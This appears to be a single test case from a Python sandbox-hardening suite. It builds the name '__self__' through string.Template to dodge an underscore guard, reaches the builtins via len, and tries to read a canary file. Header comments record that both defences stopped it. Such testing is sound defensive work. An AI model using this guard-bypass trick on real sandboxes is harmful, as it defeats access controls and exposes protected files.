# Technique   getattr's name comes out of string.Template
# Mechanism   the template puts underscores around a word
# As shipped  failed: AttributeError: the attribute '__self__' is refused: it begins with an underscore
# Unguarded   blocked: openat

name = string.Template("${u}${u}self${u}${u}").substitute(u=chr(95))
return getattr(len, name).open(CANARY_FILE).read()
